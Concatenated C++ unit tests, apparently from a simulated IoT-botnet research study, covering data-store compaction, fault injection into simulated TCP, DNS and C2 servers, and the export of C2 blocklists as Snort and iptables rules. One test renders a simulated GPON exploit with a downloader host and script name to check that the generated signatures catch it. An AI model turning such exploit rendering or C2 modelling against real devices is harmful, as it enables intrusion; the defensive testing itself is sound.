}

TEST(Query, IngestAndCompactPreserveAnswers) {
  const auto dir = fresh_dir("compact");
  Store st(dir);
  const auto batch_a = core::ParallelStudy(study_config(5, 30, 1, 1)).run();
  const auto batch_b = core::ParallelStudy(study_config(6, 30, 1, 1)).run();
  st.commit(batch_a, SegmentKind::kIngest, 0, 0, 1, 5);
  st.commit(batch_b, SegmentKind::kIngest, 0, 0, 1, 6);

  QueryEngine before(st);
  const auto totals_before = before.answer("totals");
  const auto liveness_before = before.answer("c2-liveness");
  const auto families_before = before.answer("families");
  const auto exploits_before = before.answer("exploits");

  const auto old_files = st.segments();
  const auto compacted = st.compact();
  ASSERT_EQ(st.segments().size(), 1u);
  EXPECT_EQ(st.segments()[0].kind, SegmentKind::kCompacted);
  for (const auto& m : old_files) {
    if (m.file != compacted.file) {
      EXPECT_FALSE(fs::exists(dir + "/segments/" + m.file)) << m.file;
    }
  }
  // Compacting twice is a no-op.
  EXPECT_EQ(st.compact().hash, compacted.hash);

  QueryEngine after(st);
  // `segments=` in totals legitimately changes; everything else must not.
  EXPECT_EQ(after.answer("c2-liveness"), liveness_before);
  EXPECT_EQ(after.answer("families"), families_before);
  EXPECT_EQ(after.answer("exploits"), exploits_before);
  EXPECT_EQ(totals_before.substr(0, totals_before.find(" segments=")),
            after.answer("totals").substr(0, totals_before.find(" segments=")));

  // Compaction survives reopen (the new manifest is durable).
  Store reopened(dir);
  ASSERT_EQ(reopened.segments().size(), 1u);
  EXPECT_EQ(reopened.segments()[0].hash, compacted.hash);
}

TEST(Query, ServeLoopAnswersUntilQuit) {
  const auto dir = fresh_dir("serve");
  Store st(dir);
  st.commit(core::ParallelStudy(study_config(5, 20, 1, 1)).run(),
            SegmentKind::kIngest, 0, 0, 1, 5);
  std::istringstream in("totals\n\nbogus\nquit\nnever-reached\n");
  std::ostringstream out;
  serve_loop(st, in, out);
  const auto text = out.str();
  EXPECT_NE(text.find("malnet-store serving"), std::string::npos);
  EXPECT_NE(text.find("samples=20"), std::string::npos);
  EXPECT_NE(text.find("err unknown command bogus"), std::string::npos);
  EXPECT_EQ(text.find("never-reached"), std::string::npos);
}

TEST(DatasetIo, SaveDatasetsReplacesAtomically) {
  // Regression (ISSUE satellite): save_datasets used to stream straight
  // into the destination, so a crash mid-write left a torn artifact. Now it
  // stages to a hidden temp and renames; the destination either keeps its
  // old content or has the complete new one, and no temp survives.
  const auto dir = ::testing::TempDir();
  const auto path = dir + "/atomic.mds";
  std::ofstream(path) << "previous artifact";
  const auto results = core::ParallelStudy(study_config(7, 20, 1, 1)).run();
  report::save_datasets(results, path);
  const auto reloaded = report::load_datasets(path);
  EXPECT_EQ(report::serialize_datasets(reloaded),
            report::serialize_datasets(results));
  for (const auto& entry : fs::directory_iterator(dir)) {
    EXPECT_FALSE(util::is_atomic_temp_name(entry.path().filename().string()))
        << entry.path();
  }
}

// --- health probe (the /healthz backing, ISSUE 8) ---------------------------

TEST(Store, HealthReportsOkOnAValidStore) {
  const auto dir = fresh_dir("health_ok");
  Store st(dir);
  auto h = st.health();
  EXPECT_TRUE(h.ok) << h.detail;
  EXPECT_EQ(h.segments, 0u);

  const auto results = core::ParallelStudy(study_config(7, 20, 1, 1)).run();
  (void)st.commit(results, SegmentKind::kIngest, 0, 0, 1, 7);
  h = st.health();
  EXPECT_TRUE(h.ok) << h.detail;
  EXPECT_EQ(h.segments, 1u);
  EXPECT_EQ(h.detail, "ok");
}

TEST(Store, HealthDetectsManifestDamageWhileServing) {
  const auto dir = fresh_dir("health_bad");
  Store st(dir);
  const auto results = core::ParallelStudy(study_config(7, 20, 1, 1)).run();
  (void)st.commit(results, SegmentKind::kIngest, 0, 0, 1, 7);
  ASSERT_TRUE(st.health().ok);

  // Damage the on-disk manifest under the open handle — what /healthz has
  // to catch on a live server without crashing it.
  std::ofstream(dir + "/MANIFEST") << "not a manifest\n";
  const auto h = st.health();
  EXPECT_FALSE(h.ok);
  EXPECT_FALSE(h.detail.empty());
  EXPECT_NE(h.detail, "ok");

  std::error_code ec;
  fs::remove(dir + "/MANIFEST", ec);
  EXPECT_FALSE(st.health().ok);  // missing manifest is unhealthy too
}
