// Fault-injection layer (DESIGN.md §11): injector determinism, the TCP
// duplicate/reorder regression the duplicator fault exposed, resolver
// hardening under injected DNS failures, C2 crash/restart, and the chaos
// metamorphic properties (jobs-invariance under every profile, shards=1
// equivalence, loss monotonicity).
#include <gtest/gtest.h>

#include <memory>

#include "botnet/c2server.hpp"
#include "core/parallel_study.hpp"
#include "core/pipeline.hpp"
#include "dns/resolver.hpp"
#include "dns/server.hpp"
#include "fault/fault.hpp"
#include "report/dataset_io.hpp"
#include "testkit/testkit.hpp"

using namespace malnet;
using namespace malnet::faultsim;

namespace {

struct TestWorld {
  sim::EventScheduler sched;
  sim::Network net{sched};
};

net::Packet make_udp(std::uint32_t n) {
  net::Packet p;
  p.src = net::Ipv4{10, 0, 0, 1};
  p.dst = net::Ipv4{10, 0, 0, 2};
  p.proto = net::Protocol::kUdp;
  p.src_port = 1000;
  p.dst_port = 2000;
  p.payload = util::Bytes{static_cast<std::uint8_t>(n),
                          static_cast<std::uint8_t>(n >> 8), 3, 4, 5, 6};
  return p;
}

core::PipelineConfig small_config(std::uint64_t seed, Profile chaos,
                                  int samples = 100) {
  core::PipelineConfig cfg;
  cfg.seed = seed;
  cfg.world.total_samples = samples;
  cfg.run_probe_campaign = false;
  cfg.chaos = chaos;
  cfg.chaos_seed = 7;
  return cfg;
}

util::Bytes run_sharded(const core::PipelineConfig& base, int shards, int jobs) {
  core::ParallelStudyConfig cfg;
  cfg.base = base;
  cfg.shards = shards;
  cfg.jobs = jobs;
  return report::serialize_datasets(core::ParallelStudy(cfg).run());
}

}  // namespace

// --- profiles ----------------------------------------------------------------

TEST(FaultProfiles, RoundTripAndShape) {
  for (const Profile p : {Profile::kNone, Profile::kFlaky, Profile::kHostile}) {
    EXPECT_EQ(profile_from_string(to_string(p)), p);
  }
  EXPECT_FALSE(profile_from_string("catastrophic"));
  EXPECT_FALSE(make_fault_config(Profile::kNone).enabled());
  EXPECT_TRUE(make_fault_config(Profile::kFlaky).enabled());
  EXPECT_TRUE(make_fault_config(Profile::kHostile).enabled());
}

// --- injector determinism ----------------------------------------------------

TEST(FaultInjector, VerdictStreamIsReproducible) {
  const FaultConfig cfg = make_fault_config(Profile::kHostile);
  FaultInjector a(cfg, 22, 7);
  FaultInjector b(cfg, 22, 7);
  for (std::uint32_t i = 0; i < 2000; ++i) {
    net::Packet pa = make_udp(i);
    net::Packet pb = make_udp(i);
    const sim::SimTime now{static_cast<std::int64_t>(i) * 1000};
    const auto va = a.on_packet(pa, now);
    const auto vb = b.on_packet(pb, now);
    ASSERT_EQ(va.drop, vb.drop);
    ASSERT_EQ(va.duplicates, vb.duplicates);
    ASSERT_EQ(va.reorder, vb.reorder);
    ASSERT_EQ(va.extra_latency.us, vb.extra_latency.us);
    ASSERT_EQ(pa.payload, pb.payload);  // identical truncation/corruption
    ASSERT_EQ(a.on_dns_query(), b.on_dns_query());
  }
  EXPECT_EQ(a.stats().total(), b.stats().total());
  EXPECT_GT(a.stats().total(), 0u);
}

TEST(FaultInjector, ChaosSeedVariesTheSchedule) {
  const FaultConfig cfg = make_fault_config(Profile::kHostile);
  FaultInjector a(cfg, 22, 7);
  FaultInjector b(cfg, 22, 8);
  bool diverged = false;
  for (std::uint32_t i = 0; i < 500 && !diverged; ++i) {
    net::Packet pa = make_udp(i);
    net::Packet pb = make_udp(i);
    const sim::SimTime now{static_cast<std::int64_t>(i) * 1000};
    const auto va = a.on_packet(pa, now);
    const auto vb = b.on_packet(pb, now);
    diverged = va.drop != vb.drop || va.duplicates != vb.duplicates ||
               pa.payload != pb.payload;
  }
  EXPECT_TRUE(diverged);
}

TEST(FaultInjector, C2CrashDrawIsCallOrderIndependent) {
  const FaultConfig cfg = make_fault_config(Profile::kHostile);
  FaultInjector a(cfg, 22, 7);
  FaultInjector b(cfg, 22, 7);
  // Same (server, day) set queried in opposite orders must agree draw-wise.
  for (std::uint64_t key = 0; key < 50; ++key) {
    const auto fwd = a.maybe_crash_c2(key, 3);
    const auto rev = b.maybe_crash_c2(49 - key, 3);
    const auto chk = b.maybe_crash_c2(key, 3);
    (void)rev;
    ASSERT_EQ(fwd.has_value(), chk.has_value());
    if (fwd) {
      ASSERT_EQ(fwd->us, chk->us);
    }
  }
}

TEST(FaultInjector, TruncationIsUdpOnly) {
  FaultConfig cfg;
  cfg.truncate_prob = 1.0;
  FaultInjector inj(cfg, 1, 1);
  net::Packet tcp = make_udp(0);
  tcp.proto = net::Protocol::kTcp;
  const auto before = tcp.payload;
  (void)inj.on_packet(tcp, sim::SimTime{});
  EXPECT_EQ(tcp.payload, before);  // TCP has no retransmit; never truncated
  net::Packet udp = make_udp(0);
  (void)inj.on_packet(udp, sim::SimTime{});
  EXPECT_LT(udp.payload.size(), before.size());
}

// --- TCP hardening (the duplicate/reorder bugfix) ----------------------------

TEST(TcpChaos, DuplicatedSegmentIsCountedOnce) {
  // Regression: TcpConn::handle used to trust p.seq unconditionally, so a
  // duplicated data segment re-invoked on_data and double-counted bytes_rx.
  TestWorld w;
  sim::Host server(w.net, net::Ipv4{10, 0, 0, 1});
  sim::Host client(w.net, net::Ipv4{10, 0, 0, 2});
  w.net.set_fault_hook([](net::Packet& p) {
    sim::FaultVerdict v;
    if (p.proto == net::Protocol::kTcp && !p.payload.empty()) v.duplicates = 1;
    return v;
  });

  std::string server_got;
  int data_events = 0;
  sim::TcpConn* server_conn = nullptr;
  server.tcp_listen(80, [&](sim::TcpConn& conn) {
    server_conn = &conn;
    conn.on_data([&](sim::TcpConn&, util::BytesView d) {
      ++data_events;
      server_got += util::to_string(d);
    });
  });
  client.tcp_connect({server.addr(), 80},
                     [&](sim::ConnectOutcome o, sim::TcpConn* c) {
                       ASSERT_EQ(o, sim::ConnectOutcome::kConnected);
                       c->send(std::string_view("ping"));
                     });
  w.sched.run();
  EXPECT_EQ(server_got, "ping");
  EXPECT_EQ(data_events, 1);
  ASSERT_NE(server_conn, nullptr);
  EXPECT_EQ(server_conn->bytes_received(), 4u);
}

TEST(TcpChaos, ReorderedSegmentsDeliverInOrder) {
  // The overtaken segment parks in the one-deep out-of-order buffer and is
  // replayed once the gap closes.
  TestWorld w;
  sim::Host server(w.net, net::Ipv4{10, 0, 0, 1});
  sim::Host client(w.net, net::Ipv4{10, 0, 0, 2});
  int client_data_seen = 0;
  w.net.set_fault_hook([&](net::Packet& p) {
    sim::FaultVerdict v;
    if (p.proto == net::Protocol::kTcp && !p.payload.empty() &&
        p.src == net::Ipv4{10, 0, 0, 2}) {
      v.reorder = true;  // exempt from the pair-FIFO clamp
      if (++client_data_seen == 1) v.extra_latency = sim::Duration::millis(5);
    }
    return v;
  });

  std::string server_got;
  server.tcp_listen(80, [&](sim::TcpConn& conn) {
    conn.on_data([&](sim::TcpConn&, util::BytesView d) {
      server_got += util::to_string(d);
    });
  });
  client.tcp_connect({server.addr(), 80},
                     [&](sim::ConnectOutcome o, sim::TcpConn* c) {
                       ASSERT_EQ(o, sim::ConnectOutcome::kConnected);
                       c->send(std::string_view("ab"));
                       c->send(std::string_view("cd"));
                     });
  w.sched.run();
  EXPECT_EQ(server_got, "abcd");
}

TEST(TcpChaos, HandshakeMonotoneUnderLoss) {
  // More injected loss can never complete *more* handshakes (the packet
  // fault analogue of the pipeline's loss-monotonicity law).
  auto completed_at = [](double p) {
    TestWorld w;
    sim::Host server(w.net, net::Ipv4{10, 0, 0, 1});
    sim::Host client(w.net, net::Ipv4{10, 0, 0, 2});
    FaultConfig cfg;
    cfg.burst_start_prob = p;
    cfg.burst_min_len = 1;
    cfg.burst_max_len = 1;
    FaultInjector inj(cfg, 5, 5);
    w.net.set_fault_hook([&](net::Packet& pk) {
      return inj.on_packet(pk, w.net.now());
    });
    server.tcp_listen(80, [](sim::TcpConn&) {});
    int ok = 0;
    for (int i = 0; i < 60; ++i) {
      w.sched.after(sim::Duration::seconds(i * 10), [&]() {
        client.tcp_connect({server.addr(), 80},
                           [&ok](sim::ConnectOutcome o, sim::TcpConn* c) {
                             if (o == sim::ConnectOutcome::kConnected) {
                               ++ok;
                               c->close();
                             }
                           },
                           sim::Duration::seconds(5));
      });
    }
    w.sched.run();
    return ok;
  };
  int prev = -1;
  // Descending loss grid: completions must be non-decreasing left to right.
  for (const double p : {0.5, 0.2, 0.05, 0.0}) {
    const int ok = completed_at(p);
    EXPECT_GE(ok, prev) << "loss " << p;
    prev = ok;
  }
  EXPECT_EQ(prev, 60);  // no faults => every handshake completes
}

// --- resolver hardening ------------------------------------------------------

namespace {
struct DnsWorld {
  sim::EventScheduler sched;
  sim::Network net{sched};
  dns::DnsServer server{net, net::Ipv4{9, 9, 9, 9}};
  sim::Host client{net, net::Ipv4{10, 0, 0, 5}};
};
}  // namespace

TEST(ResolverChaos, RetriesThroughDroppedQueries) {
  DnsWorld w;
  w.server.add_record("c2.example", net::Ipv4{5, 6, 7, 8});
  int drops = 0;
  w.server.set_query_fault_hook([&]() {
    return drops++ < 2 ? dns::QueryFault::kDrop : dns::QueryFault::kNone;
  });
  dns::ResolveOptions opts;
  opts.timeout = sim::Duration::seconds(1);
  opts.max_retries = 2;
  int retries = 0;
  opts.on_retry = [&]() { ++retries; };
  std::optional<net::Ipv4> got;
  dns::resolve(w.client, {w.server.addr(), 53}, "c2.example",
               [&](std::optional<net::Ipv4> ip) { got = ip; }, opts);
  w.sched.run();
  ASSERT_TRUE(got);
  EXPECT_EQ(*got, (net::Ipv4{5, 6, 7, 8}));
  EXPECT_EQ(retries, 2);
}

TEST(ResolverChaos, ExhaustedRetriesFailOnce) {
  DnsWorld w;
  w.server.add_record("c2.example", net::Ipv4{5, 6, 7, 8});
  w.server.set_query_fault_hook([]() { return dns::QueryFault::kDrop; });
  dns::ResolveOptions opts;
  opts.timeout = sim::Duration::seconds(1);
  opts.max_retries = 2;
  int calls = 0;
  std::optional<net::Ipv4> got = net::Ipv4{1, 1, 1, 1};
  dns::resolve(w.client, {w.server.addr(), 53}, "c2.example",
               [&](std::optional<net::Ipv4> ip) {
                 ++calls;
                 got = ip;
               },
               opts);
  w.sched.run();
  EXPECT_EQ(calls, 1);
  EXPECT_FALSE(got);
}

TEST(ResolverChaos, ServfailAnswersWithoutAddress) {
  DnsWorld w;
  w.server.add_record("c2.example", net::Ipv4{5, 6, 7, 8});
  w.server.set_query_fault_hook([]() { return dns::QueryFault::kServfail; });
  int calls = 0;
  std::optional<net::Ipv4> got = net::Ipv4{1, 1, 1, 1};
  dns::resolve(w.client, {w.server.addr(), 53}, "c2.example",
               [&](std::optional<net::Ipv4> ip) {
                 ++calls;
                 got = ip;
               });
  w.sched.run();
  EXPECT_EQ(calls, 1);
  EXPECT_FALSE(got);
}

TEST(ResolverChaos, LateReplyAfterTimeoutIsIgnored) {
  // The other side of the reply/timeout race: delay every reply past the
  // timeout; the callback must fire exactly once, with nullopt, and the
  // straggling reply must land on a dead (unbound) port.
  DnsWorld w;
  w.server.add_record("c2.example", net::Ipv4{5, 6, 7, 8});
  w.net.set_fault_hook([](net::Packet& p) {
    sim::FaultVerdict v;
    if (p.src_port == 53) v.extra_latency = sim::Duration::seconds(3);
    return v;
  });
  dns::ResolveOptions opts;
  opts.timeout = sim::Duration::seconds(1);
  int calls = 0;
  std::optional<net::Ipv4> got = net::Ipv4{1, 1, 1, 1};
  dns::resolve(w.client, {w.server.addr(), 53}, "c2.example",
               [&](std::optional<net::Ipv4> ip) {
                 ++calls;
                 got = ip;
               },
               opts);
  w.sched.run();
  EXPECT_EQ(calls, 1);
  EXPECT_FALSE(got);
}

TEST(ResolverChaos, HostDestroyedBeforeTimeoutIsSafe) {
  // Regression: the timeout event used to capture the host by reference
  // with no lifetime guard — a host destroyed mid-flight was a
  // use-after-free when the timer fired.
  sim::EventScheduler sched;
  sim::Network net{sched};
  auto client = std::make_unique<sim::Host>(net, net::Ipv4{10, 0, 0, 5});
  int calls = 0;
  dns::resolve(*client, {net::Ipv4{8, 8, 8, 8}, 53}, "x.y",
               [&](std::optional<net::Ipv4>) { ++calls; },
               sim::Duration::seconds(2));
  client.reset();  // guest torn down before its query resolves
  sched.run();     // the orphaned timer must fire as a no-op
  EXPECT_EQ(calls, 0);
}

TEST(ResolverChaos, ReplyAndTimeoutRaceProperty) {
  // Property over injected reply delays: for any delay, the callback fires
  // exactly once, and it carries the address iff the reply beat the timeout.
  testkit::CheckConfig cfg;
  cfg.cases = 30;
  cfg.name = "resolver reply/timeout race";
  const auto r = testkit::check(
      testkit::ints<std::int64_t>(0, 4'000'000),  // 0..4 s in µs
      [](std::int64_t delay_us) {
        DnsWorld w;
        w.server.add_record("c2.example", net::Ipv4{5, 6, 7, 8});
        w.net.set_fault_hook([delay_us](net::Packet& p) {
          sim::FaultVerdict v;
          if (p.src_port == 53) v.extra_latency = sim::Duration::micros(delay_us);
          return v;
        });
        dns::ResolveOptions opts;
        opts.timeout = sim::Duration::seconds(2);
        int calls = 0;
        std::optional<net::Ipv4> got;
        dns::resolve(w.client, {w.server.addr(), 53}, "c2.example",
                     [&](std::optional<net::Ipv4> ip) {
                       ++calls;
                       got = ip;
                     },
                     opts);
        w.sched.run();
        if (calls != 1) return false;
        // Near the boundary either side may win (base latency is seeded);
        // well inside each regime the outcome is forced.
        if (delay_us < 1'500'000 && !got) return false;
        if (delay_us > 2'500'000 && got) return false;
        return true;
      },
      cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

// --- C2 crash/restart --------------------------------------------------------

TEST(C2Chaos, CrashAbortsSessionsAndRestarts) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  botnet::C2ServerConfig cfg;
  cfg.family = proto::Family::kGafgyt;
  cfg.ip = net::Ipv4{60, 1, 2, 3};
  cfg.port = 23;
  cfg.accept_prob = 1.0;  // every re-roll brings the listener up
  botnet::C2Server server(net, cfg, util::Rng(1));
  ASSERT_TRUE(server.currently_listening());

  sim::Host bot(net, net::Ipv4{10, 0, 0, 9});
  bool closed = false;
  bot.tcp_connect({cfg.ip, cfg.port}, [&](sim::ConnectOutcome o, sim::TcpConn* c) {
    ASSERT_EQ(o, sim::ConnectOutcome::kConnected);
    c->on_close([&](sim::TcpConn&) { closed = true; });
  });
  sched.run_until(sim::SimTime{} + sim::Duration::seconds(30));

  server.crash(sim::Duration::minutes(5));
  EXPECT_EQ(server.crashes(), 1u);
  EXPECT_FALSE(server.currently_listening());
  sched.run_until(sched.now() + sim::Duration::minutes(1));
  EXPECT_TRUE(closed);  // the session died with the server
  // Still down mid-outage (duty-cycle re-rolls are crash-gated)...
  EXPECT_FALSE(server.currently_listening());
  // ...and back up after the outage.
  sched.run_until(sched.now() + sim::Duration::minutes(10));
  EXPECT_TRUE(server.currently_listening());
}

// --- degraded-results dataset ------------------------------------------------

TEST(DegradedDataset, V2RoundTripAndV1Compat) {
  core::StudyResults clean;
  const auto v1 = report::serialize_datasets(clean);
  EXPECT_EQ(v1[4], 1u);  // empty degraded section keeps the v1 format

  core::StudyResults chaos;
  chaos.degraded.push_back({"deadbeef", 5, "dns:cnc.evil.example"});
  chaos.degraded.push_back({"cafef00d", 9, "exception:stall"});
  const auto v2 = report::serialize_datasets(chaos);
  EXPECT_EQ(v2[4], 2u);
  const auto parsed = report::parse_datasets(v2);
  ASSERT_TRUE(parsed);
  ASSERT_EQ(parsed->degraded.size(), 2u);
  EXPECT_EQ(parsed->degraded[0].sha256, "deadbeef");
  EXPECT_EQ(parsed->degraded[0].day, 5);
  EXPECT_EQ(parsed->degraded[0].reason, "dns:cnc.evil.example");
  EXPECT_EQ(parsed->degraded[1].reason, "exception:stall");

  ASSERT_TRUE(report::parse_datasets(v1));  // v1 artifacts still load
}

// --- chaos study properties --------------------------------------------------

TEST(ChaosProps, JobsInvarianceUnderEveryProfile) {
  // The whole point of drawing faults from the shard RNG: a chaos study is
  // byte-identical across worker counts, exactly like a clean one.
  for (const Profile profile : {Profile::kFlaky, Profile::kHostile}) {
    const auto base = small_config(22, profile);
    for (const int shards : {1, 3}) {
      const auto serial = run_sharded(base, shards, 1);
      const auto parallel = run_sharded(base, shards, 4);
      EXPECT_EQ(serial, parallel)
          << "profile " << to_string(profile) << " shards " << shards;
    }
  }
}

TEST(ChaosProps, SingleShardMatchesPlainPipeline) {
  const auto base = small_config(22, Profile::kHostile);
  const auto plain = report::serialize_datasets(core::Pipeline(base).run());
  EXPECT_EQ(run_sharded(base, 1, 2), plain);
}

TEST(ChaosProps, ChaosOffMatchesChaosAbsent) {
  // chaos=none must not perturb a clean study: same bytes as a config that
  // never mentions chaos at all.
  core::PipelineConfig with_field = small_config(22, Profile::kNone);
  with_field.chaos_seed = 99;  // ignored when the profile is kNone
  core::PipelineConfig without = small_config(22, Profile::kNone);
  without.chaos_seed = 0;
  EXPECT_EQ(report::serialize_datasets(core::Pipeline(with_field).run()),
            report::serialize_datasets(core::Pipeline(without).run()));
}

TEST(ChaosSmoke, HostileStudyCompletesAndCounts) {
  const auto base = small_config(22, Profile::kHostile, 120);
  core::ParallelStudyConfig cfg;
  cfg.base = base;
  cfg.shards = 2;
  cfg.jobs = 2;
  const auto results = core::ParallelStudy(cfg).run();
  EXPECT_FALSE(results.d_samples.empty());
  // The chaos counters exist and faults actually flowed.
  const auto counter = [&](const std::string& key) -> std::uint64_t {
    const auto it = results.metrics.counters.find(key);
    return it == results.metrics.counters.end() ? 0u : it->second;
  };
  EXPECT_GT(counter("faults_injected"), 0u);
  EXPECT_GT(counter("chaos.dns_servfails") + counter("chaos.dns_drops") +
                counter("chaos.packets_dropped_burst"),
            0u);
  EXPECT_TRUE(results.metrics.counters.count("samples_degraded"));
}
