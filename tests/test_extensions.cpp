// Extension features beyond the paper's evaluation: actionable-rule export
// (§1 "Potential Impact"), multi-architecture sandbox gating (§6d) and the
// P2P overlay crawler (the natural follow-up to §2.3a's P2P filter).
#include <gtest/gtest.h>

#include "botnet/p2p_overlay.hpp"
#include "core/p2p_crawl.hpp"
#include "core/pipeline.hpp"
#include "emu/attackgen.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"
#include "proto/p2p.hpp"
#include "report/rules_export.hpp"

using namespace malnet;

// --- rules export ---------------------------------------------------------------

namespace {
core::StudyResults study_with_iocs() {
  core::StudyResults r;
  core::C2Record live;
  live.address = "60.1.1.1";
  live.ip = *net::parse_ipv4("60.1.1.1");
  live.port = 23;
  live.live_days = {3};
  live.discovery_day = 3;
  live.is_downloader = true;
  r.d_c2s[live.address] = live;

  core::C2Record dns;
  dns.address = "cnc.bot-net1.com";
  dns.is_dns = true;
  dns.ip = *net::parse_ipv4("60.2.2.2");
  dns.port = 666;
  dns.vt_malicious_requery = true;
  dns.discovery_day = 7;
  r.d_c2s[dns.address] = dns;

  core::C2Record unverified;
  unverified.address = "60.3.3.3";
  unverified.ip = *net::parse_ipv4("60.3.3.3");
  unverified.discovery_day = 9;  // never live, never re-query confirmed
  r.d_c2s[unverified.address] = unverified;

  r.downloader_hosts = {"60.1.1.1", "60.9.9.9"};

  core::ExploitRecord er;
  er.sample_sha = "aa";
  er.vuln = vulndb::VulnId::kGpon10561;
  r.d_exploits.push_back(er);
  return r;
}
}  // namespace

TEST(RulesExport, BlocklistRespectsVerificationGate) {
  const auto r = study_with_iocs();
  const auto iocs = report::build_blocklist(r);
  std::set<std::string> addrs;
  for (const auto& ioc : iocs) addrs.insert(ioc.address);
  EXPECT_TRUE(addrs.count("60.1.1.1"));           // live
  EXPECT_TRUE(addrs.count("cnc.bot-net1.com"));   // re-query confirmed
  EXPECT_FALSE(addrs.count("60.3.3.3"));          // unverified: excluded
  EXPECT_TRUE(addrs.count("60.9.9.9"));           // dedicated downloader

  report::RuleExportOptions open_opts;
  open_opts.require_live_or_requery = false;
  const auto all = report::build_blocklist(r, open_opts);
  EXPECT_GT(all.size(), iocs.size());
}

TEST(RulesExport, GeneratedSnortRulesParseWithOwnEngine) {
  const auto r = study_with_iocs();
  const auto set = report::compile_exported_rules(r);  // throws on failure
  EXPECT_GE(set.size(), 4u);  // 3 IoCs + 1 exploit signature

  // The C2 drop rule must actually drop traffic to that C2...
  net::Packet to_c2;
  to_c2.src = *net::parse_ipv4("192.168.1.50");
  to_c2.dst = *net::parse_ipv4("60.1.1.1");
  to_c2.proto = net::Protocol::kTcp;
  to_c2.dst_port = 23;
  EXPECT_TRUE(set.evaluate(to_c2).drop);
  // ...and not traffic to unrelated hosts.
  to_c2.dst = *net::parse_ipv4("8.8.8.8");
  EXPECT_FALSE(set.evaluate(to_c2).drop);
}

TEST(RulesExport, ExploitSignatureRulesMatchRealPayloads) {
  const auto r = study_with_iocs();
  const auto set = report::compile_exported_rules(r);
  const auto& vdb = vulndb::VulnDatabase::instance();

  net::Packet exploit;
  exploit.src = *net::parse_ipv4("192.168.1.50");
  exploit.dst = *net::parse_ipv4("198.51.100.2");
  exploit.proto = net::Protocol::kTcp;
  exploit.dst_port = vdb.by_id(vulndb::VulnId::kGpon10561).port;
  exploit.payload = util::to_bytes(
      vdb.render_exploit(vulndb::VulnId::kGpon10561, "60.9.9.9", "t8UsA2.sh"));
  const auto ev = set.evaluate(exploit);
  bool exploit_alert = false;
  for (const auto* rule : ev.matched) exploit_alert |= rule->sid >= 2000000;
  EXPECT_TRUE(exploit_alert) << "generated signature must match the exploit";
}

TEST(RulesExport, IptablesAndPlainFormats) {
  const auto r = study_with_iocs();
  const auto ipt = report::export_iptables(r);
  EXPECT_NE(ipt.find("-A FORWARD -d 60.1.1.1 -j DROP"), std::string::npos);
  EXPECT_NE(ipt.find("COMMIT"), std::string::npos);
  EXPECT_NE(ipt.find("cnc.bot-net1.com"), std::string::npos);  // RPZ comment

  const auto plain = report::export_plain_blocklist(r);
  EXPECT_NE(plain.find("60.1.1.1\n"), std::string::npos);
  EXPECT_EQ(plain.find("60.3.3.3"), std::string::npos);
}

TEST(RulesExport, PipelineOutputCompilesCleanly) {
  core::PipelineConfig cfg;
  cfg.seed = 9;
  cfg.world.total_samples = 120;
  cfg.run_probe_campaign = false;
  core::Pipeline pipeline(cfg);
  const auto results = pipeline.run();
  const auto set = report::compile_exported_rules(results);
  EXPECT_GT(set.size(), 20u);
}

// --- multi-architecture gating -----------------------------------------------

TEST(MultiArch, SandboxRejectsUnsupportedArch) {
  sim::EventScheduler sched;
  sim::Network net(sched);
  emu::Sandbox sandbox(net);  // MIPS-32 only by default

  mal::MbfBinary bin;
  bin.arch = mal::Arch::kArm32;
  bin.behavior.family = proto::Family::kMirai;
  bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
  util::Rng rng(1);
  emu::SandboxReport report;
  bool done = false;
  sandbox.start(mal::forge(bin, rng), {}, [&](const emu::SandboxReport& r) {
    report = r;
    done = true;
  });
  sched.run_until(sched.now() + sim::Duration::minutes(1));
  ASSERT_TRUE(done);
  EXPECT_TRUE(report.parsed);
  EXPECT_TRUE(report.unsupported_arch);
  EXPECT_FALSE(report.activated);
}

TEST(MultiArch, ExtendedSandboxRunsArm) {
  sim::EventScheduler sched;
  sim::Network net(sched);
  emu::SandboxConfig cfg;
  cfg.supported_archs = {mal::Arch::kMips32, mal::Arch::kArm32};  // §6d scale-up
  emu::Sandbox sandbox(net, cfg);

  mal::MbfBinary bin;
  bin.arch = mal::Arch::kArm32;
  bin.behavior.family = proto::Family::kMirai;
  bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
  bin.behavior.c2_port = 23;
  util::Rng rng(2);
  emu::SandboxReport report;
  sandbox.start(mal::forge(bin, rng), {}, [&](const emu::SandboxReport& r) { report = r; });
  sched.run_until(sched.now() + sim::Duration::minutes(12));
  EXPECT_FALSE(report.unsupported_arch);
  EXPECT_TRUE(report.activated);
}

// --- P2P overlay + crawler -------------------------------------------------------

TEST(P2pOverlay, NodesAnswerPingAndPeerExchange) {
  sim::EventScheduler sched;
  sim::Network net(sched);
  botnet::OverlayConfig cfg;
  cfg.node_count = 8;
  cfg.availability = 1.0;
  auto overlay = botnet::build_overlay(net, cfg);
  ASSERT_EQ(overlay.nodes.size(), 8u);
  ASSERT_FALSE(overlay.bootstrap.empty());

  sim::Host probe(net, net::Ipv4{192, 0, 2, 77});
  std::vector<net::Endpoint> got;
  const net::Port local = 40000;
  probe.udp_bind(local, [&](const net::Packet& p) {
    if (const auto reply = proto::p2p::decode_peers_reply(p.payload)) {
      got = reply->peers;
    }
  });
  probe.udp_send(overlay.nodes[0]->endpoint(),
                 proto::p2p::encode_get_peers({std::string(20, 'C'), "q1"}), local);
  sched.run();
  ASSERT_FALSE(got.empty());
  EXPECT_EQ(got.front(), overlay.nodes[1]->endpoint());  // ring successor
}

TEST(P2pCrawl, EnumeratesTheWholeOverlay) {
  sim::EventScheduler sched;
  sim::Network net(sched);
  botnet::OverlayConfig cfg;
  cfg.node_count = 40;
  cfg.availability = 1.0;
  auto overlay = botnet::build_overlay(net, cfg);

  sim::Host crawler_host(net, net::Ipv4{192, 0, 2, 88});
  core::CrawlResult result;
  bool done = false;
  core::P2pCrawler crawler(crawler_host, overlay.bootstrap, {},
                           [&](core::CrawlResult r) {
                             result = std::move(r);
                             done = true;
                           });
  crawler.start();
  sched.run_until(sched.now() + sim::Duration::minutes(30));
  ASSERT_TRUE(done);
  EXPECT_EQ(result.discovered.size(), 40u) << "ring wiring guarantees full coverage";
  EXPECT_EQ(result.responsive.size(), 40u);
  EXPECT_GE(result.queries_sent, 40u);
}

TEST(P2pCrawl, ChurnReducesResponsiveButRetriesRecoverCoverage) {
  sim::EventScheduler sched;
  sim::Network net(sched);
  botnet::OverlayConfig cfg;
  cfg.node_count = 40;
